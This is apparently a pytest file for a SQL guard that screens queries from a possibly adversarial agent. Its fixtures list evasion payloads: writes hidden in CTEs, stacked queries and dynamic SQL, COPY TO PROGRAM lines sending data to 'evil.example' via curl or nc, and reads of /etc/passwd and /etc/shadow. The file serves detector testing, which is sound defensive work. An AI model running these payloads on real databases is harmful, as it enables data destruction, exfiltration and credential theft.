"""Evasion cases: SQL an adversarial agent might send to slip a write or an exfiltration past."""

from __future__ import annotations

import logging

import pytest

from subguard.sql import SqlFacts, analyze


def kinds(facts: SqlFacts) -> list[str]:
    return [s.kind for s in facts.statements]


# (text, dialect, kind that must appear among the statements, table that must be written)
HIDDEN_WRITES = [
    ("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", "postgres", "delete", "users"),
    (
        "WITH a AS (UPDATE users SET admin = true RETURNING id) SELECT count(*) FROM a",
        "postgres",
        "update",
        "users",
    ),
    (
        "WITH a AS (INSERT INTO grants_t VALUES (1) RETURNING 1) SELECT 1",
        "postgres",
        "insert",
        "grants_t",
    ),
    ("SELECT 1; DROP TABLE users", None, "drop", "users"),
    ("SELECT 1;DROP TABLE users;--", "postgres", "drop", "users"),
    ("select 1 -- harmless\n; drop table users", "postgres", "drop", "users"),
    ("SELECT 1 /* ; */ ; TRUNCATE users", "postgres", "truncate", "users"),
    ("SELECT 1 /*! ; DROP TABLE users */", "mysql", "drop", "users"),
    ("SELECT 1 /*!50001 ; DELETE FROM users */", "mysql", "delete", "users"),
    ("PREPARE p AS DELETE FROM users", "postgres", "delete", "users"),
    ("PREPARE p (int) AS UPDATE users SET name = 'x' WHERE id = $1", "postgres", "update", "users"),
    ("PREPARE s FROM 'DELETE FROM users'", "mysql", "delete", "users"),
    ("EXECUTE 'DELETE FROM users'", "postgres", "delete", "users"),
    ("EXECUTE IMMEDIATE 'DROP TABLE users'", "snowflake", "drop", "USERS"),
    ("EXEC('DROP TABLE users')", "tsql", "drop", "users"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", "postgres", "drop", "users"),
    ("DO $body$ BEGIN DELETE FROM users; END $body$", "postgres", "delete", "users"),
    (
        "DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'TRUNCATE users'; END $$",
        "postgres",
        "truncate",
        "users",
    ),
    (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$",
        "postgres",
        "delete",
        "users",
    ),
    (
        "CREATE FUNCTION f() RETURNS void AS 'DELETE FROM users' LANGUAGE sql",
        "postgres",
        "delete",
        "users",
    ),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$",
        "postgres",
        "drop",
        "users",
    ),
    ("EXPLAIN ANALYZE DELETE FROM users", "postgres", "delete", "users"),
    ("INSERT INTO archive SELECT * FROM users", "postgres", "insert", "archive"),
    ("CREATE TABLE stolen AS SELECT * FROM users", "postgres", "create", "stolen"),
    ("SELECT * INTO stolen FROM users", "postgres", "create", "stolen"),
    ("ALTER TABLE users RENAME TO users_old", "postgres", "alter", "users_old"),
    (
        "MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE",
        "postgres",
        "merge",
        "users",
    ),
    ("REPLACE INTO users VALUES (1)", "mysql", "insert", "users"),
    ("DELETE u FROM users u JOIN t ON u.id = t.id", "mysql", "delete", "users"),
    ("TRUNCATE TABLE ONLY users", "postgres", "truncate", "users"),
    ("DROP TABLE IF EXISTS a, users CASCADE", "postgres", "drop", "users"),
    ("COPY users FROM '/tmp/evil.csv'", "postgres", "copy", "users"),
]


@pytest.mark.parametrize(("text", "dialect", "kind", "table"), HIDDEN_WRITES)
def test_hidden_writes_are_listed_and_written(
    text: str, dialect: str | None, kind: str, table: str
) -> None:
    facts = analyze(text, dialect=dialect)
    assert kind in kinds(facts), (kinds(facts), facts.parse_error)
    assert table in facts.tables_written
    assert any(table in s.tables_written for s in facts.statements if s.kind == kind)


def test_nested_statements_carry_a_path() -> None:
    facts = analyze(
        "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x; PREPARE p AS DROP TABLE t",
        dialect="postgres",
    )
    paths = {s.path: (s.kind, s.nested) for s in facts.statements}
    assert paths["0"] == ("select", False)
    assert paths["0.cte[x]"] == ("delete", True)
    assert paths["1"] == ("prepare", False)
    assert paths["1.prepare"] == ("drop", True)
    do = analyze("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", dialect="postgres")
    assert [s.path for s in do.statements] == ["0", "0.do.execute[0]"]
    fn = analyze("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", dialect="postgres")
    assert [s.path for s in fn.statements] == ["0", "0.function_body"]


def test_a_cte_select_is_still_a_select_of_a_cte_not_a_table() -> None:
    facts = analyze("WITH audit_log AS (SELECT 1 AS a) SELECT a FROM audit_log", dialect="postgres")
    assert facts.tables_read == frozenset()
    assert kinds(facts) == ["select"]
    derived = analyze("SELECT d.a FROM (SELECT a FROM t) AS d", dialect="postgres")
    assert derived.tables_read == {"t"}


@pytest.mark.parametrize(
    "where",
    [
        "1=1",
        "true",
        "'a'='a'",
        "NOT false",
        "id = 1 OR 1 = 1",
        "2 > 1",
        "(1 = 1)",
        "1 = 1 AND 2 = 2",
        "id = 5 OR TRUE",
        "1",
        "NOT NOT TRUE",
    ],
)
def test_tautological_where_is_unbounded(where: str) -> None:
    for kind, text in [
        ("delete", f"DELETE FROM users WHERE {where}"),
        ("update", f"UPDATE users SET a = 1 WHERE {where}"),
    ]:
        facts = analyze(text, dialect="postgres")
        assert facts.statements[0].kind == kind
        assert not facts.statements[0].has_where, text


@pytest.mark.parametrize(
    "where", ["id = 1", "id = 1 AND 1 = 1", "id IN (1, 2)", "a = 1 OR b = 2"]
)
def test_real_where_is_bounded(where: str) -> None:
    facts = analyze(f"DELETE FROM users WHERE {where}", dialect="postgres")
    assert facts.statements[0].has_where


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM audit_log",
        "SELECT * FROM public.audit_log",
        'SELECT * FROM "audit_log"',
        "SELECT * FROM AUDIT_LOG",
        "SELECT * FROM Audit_Log AS x",
        'SELECT * FROM mydb.public."audit_log"',
        "select * from/**/audit_log",
    ],
)
def test_names_normalize_to_the_bare_table(text: str) -> None:
    assert analyze(text, dialect="postgres").tables_read == {"audit_log"}


def test_quoted_names_keep_their_case_in_postgres() -> None:
    assert analyze('SELECT * FROM "Audit_Log"', dialect="postgres").tables_read == {"Audit_Log"}


def test_tables_carry_schema_and_catalog() -> None:
    facts = analyze('SELECT * FROM Db.PUBLIC."T"', dialect="postgres")
    (table,) = facts.statements[0].tables
    assert (table.name, table.schema, table.catalog, table.qualified) == (
        "T",
        "public",
        "db",
        "db.public.T",
    )


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        ("COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- evil.example'", "postgres"),
        ("COPY users TO PROGRAM 'nc evil 1234'", "postgres"),
        ("copy users from program 'id'", "postgres"),
        ("COPY users TO STDOUT; COPY t FROM PROGRAM 'sh -c x'", "postgres"),
    ],
)
def test_copy_program_is_detected(text: str, dialect: str) -> None:
    facts = analyze(text, dialect=dialect)
    assert any(s.kind == "copy" and s.copy_program for s in facts.statements)


def test_plain_copy_is_not_a_program() -> None:
    facts = analyze("COPY users TO '/tmp/out.csv'", dialect="postgres")
    assert facts.statements[0].kind == "copy"
    assert not facts.statements[0].copy_program
    assert facts.tables_read == {"users"}


def test_into_outfile_is_unparseable_and_marked() -> None:
    facts = analyze("SELECT * INTO OUTFILE '/tmp/x' FROM users", dialect="mysql")
    assert facts.parse_error
    assert facts.statements[0].kind == "unparseable"
    assert facts.statements[0].into_outfile


@pytest.mark.parametrize(
    ("text", "function"),
    [
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT lo_export(1234, '/tmp/x')", "lo_export"),
        ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink"),
        ("SELECT set_config('role', 'admin', false)", "set_config"),
        ("SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity", "pg_terminate_backend"),
        ("SELECT 1 WHERE EXISTS (SELECT pg_sleep(10))", "pg_sleep"),
        ("CALL pg_terminate_backend(42)", "pg_terminate_backend"),
        ("WITH x AS (SELECT pg_ls_dir('/')) SELECT * FROM x", "pg_ls_dir"),
        ("UPDATE t SET a = pg_read_binary_file('/etc/shadow')", "pg_read_binary_file"),
    ],
)
def test_dangerous_functions_are_listed(text: str, function: str) -> None:
    assert function in analyze(text, dialect="postgres").functions


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("DO $$ BEGIN NULL; END $$", "do"),
        ("CALL proc(1)", "call"),
        ("EXECUTE p(1)", "execute"),
        ("PREPARE p AS SELECT 1", "prepare"),
        ("LOCK TABLE users IN ACCESS EXCLUSIVE MODE", "lock"),
        ("VACUUM FULL users", "vacuum"),
        ("SET search_path = evil", "set"),
        ("SHOW ALL", "show"),
        ("BEGIN", "transaction"),
        ("COMMIT", "transaction"),
        ("EXPLAIN SELECT 1", "explain"),
        ("GRANT SELECT ON users TO bob", "grant"),
        ("REVOKE SELECT ON users FROM bob", "revoke"),
        ("REFRESH MATERIALIZED VIEW v", "other"),
    ],
)
def test_commands_map_by_keyword(text: str, kind: str) -> None:
    facts = analyze(text, dialect="postgres")
    assert facts.statements[0].kind == kind
    assert facts.parse_error is None


def test_lock_and_truncate_name_their_tables() -> None:
    lock = analyze("LOCK TABLE public.users IN ACCESS EXCLUSIVE MODE", dialect="postgres")
    assert lock.statements[0].target == "users"
    assert "users" in lock.tables_read


def test_grant_facts() -> None:
    facts = analyze("GRANT SELECT, UPDATE ON TABLE public.users TO bob, alice", dialect="postgres")
    (grant,) = facts.statements[0].grants
    assert grant.action == "grant"
    assert grant.privileges == {"select", "update"}
    assert grant.objects == {"users"}
    assert grant.principals == {"bob", "alice"}
    schema_wide = analyze("GRANT ALL ON ALL TABLES IN SCHEMA public TO bob", dialect="postgres")
    (grant,) = schema_wide.statements[0].grants
    assert grant.object_type == "all tables in schema"
    assert grant.objects == {"public"}
    revoke = analyze("REVOKE ALL ON users FROM PUBLIC", dialect="postgres")
    assert revoke.statements[0].kind == "revoke"
    role = analyze("GRANT admin TO mallory", dialect="postgres")
    assert role.statements[0].kind == "grant"
    assert role.statements[0].grants[0].principals == {"mallory"}


@pytest.mark.parametrize(
    "text",
    ["SELEC * FRM x", "", "   ", "-- only a comment", "SELECT (1", "DELETE users WHERE", "'abc"],
)
def test_text_that_is_not_a_statement_fails_closed(text: str) -> None:
    facts = analyze(text, dialect="postgres")
    assert facts.parse_error
    assert "unparseable" in kinds(facts)


def test_one_bad_statement_does_not_hide_the_good_ones() -> None:
    facts = analyze("DROP TABLE users; SELEC garbage", dialect="postgres")
    assert kinds(facts) == ["drop", "unparseable"]
    assert facts.parse_error and facts.parse_error.startswith("statement 2")


def test_parse_errors_carry_a_position_but_no_literal() -> None:
    facts = analyze("SELECT 'hunter2' FROM WHERE password = 'hunter2' AND", dialect="postgres")
    assert facts.parse_error
    assert "hunter2" not in facts.parse_error
    assert "line 1" in facts.parse_error
    alias = analyze("SELEC 'topsecret' FRM x")
    assert alias.parse_error and "topsecret" not in alias.parse_error


def test_unknown_dialect_is_a_parse_error_not_an_exception() -> None:
    facts = analyze("SELECT 1", dialect="oracle-ish")
    assert facts.parse_error and "unknown dialect" in facts.parse_error
    assert kinds(facts) == ["unparseable"]


def test_command_is_never_a_select() -> None:
    for text in ("DO $$ SELECT 1 $$", "VACUUM", "CALL f()", "REFRESH MATERIALIZED VIEW v"):
        assert analyze(text, dialect="postgres").statements[0].kind != "select"


def test_dblink_exec_and_unicode_escapes_do_not_hide_the_table() -> None:
    facts = analyze('SELECT * FROM U&"\\0075sers"', dialect="postgres")
    assert facts.tables_read or facts.parse_error


def test_sqlglot_warnings_never_carry_the_statement_to_logs() -> None:
    seen: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = seen.append  # type: ignore[method-assign]
    logger = logging.getLogger("sqlglot")
    logger.addHandler(handler)
    try:
        analyze("VACUUM FULL secret_table_zq91 -- s3cr3t-zq91", dialect="postgres")
        analyze("LISTEN 'zq91-secret'", dialect="postgres")
    finally:
        logger.removeHandler(handler)
    assert not [r for r in seen if "zq91" in r.getMessage()]
